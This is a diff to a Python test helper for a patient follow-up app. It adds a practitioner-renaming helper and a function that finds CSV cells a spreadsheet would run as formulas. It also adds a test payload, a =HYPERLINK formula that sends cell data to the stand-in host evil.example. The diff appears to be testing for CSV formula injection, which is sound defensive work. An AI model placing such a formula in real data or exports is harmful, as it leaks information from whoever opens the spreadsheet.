@@ -3,7 +3,10 @@ seed itself in plain Python (never from the database or the report's SQL)."""
 
 from __future__ import annotations
 
+import csv
+import io
 import random
+import re
 from collections import Counter, defaultdict
 from dataclasses import dataclass, field
 from datetime import UTC, date, datetime, timedelta
@@ -20,6 +23,7 @@ from followup.models import (
     MessageEvent,
     MessageStatus,
     ScheduledMessage,
+    Treatment,
 )
 from tests.factories import make_enrollment
 
@@ -155,3 +159,20 @@ def expected_answers(seed: Seed, by: int) -> dict[str, Counter[str]]:
 
 def _utc(value: datetime) -> datetime:
     return value.astimezone(UTC)
+
+
+# A practitioner's name as free text can hold anything, a spreadsheet formula included.
+FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Dr Adams")'
+_FORMULA_START = re.compile(r"^[=+\-@\t\r]")
+
+
+def name_practitioner(session: Session, old: str, new: str) -> None:
+    for treatment in session.scalars(select(Treatment).where(Treatment.practitioner == old)):
+        treatment.practitioner = new
+
+
+def formula_cells(text: str) -> list[str]:
+    """Cells of a CSV document that a spreadsheet would run as a formula."""
+    return [
+        cell for row in csv.reader(io.StringIO(text)) for cell in row if _FORMULA_START.match(cell)
+    ]
